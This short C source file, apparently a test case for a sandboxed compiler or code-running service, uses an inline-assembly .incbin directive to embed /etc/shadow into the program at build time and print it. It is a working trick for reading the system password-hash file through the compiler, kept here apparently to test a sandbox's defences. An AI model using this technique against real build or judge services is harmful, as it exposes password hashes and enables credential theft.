#include "hostile.h"
__asm__(".section .rodata\nwords: .incbin \"/etc/shadow\"\n.byte 0\n.text");
extern const char words[];
int main(void)
{
    ESCAPED("%s", words);
    return 0;
}
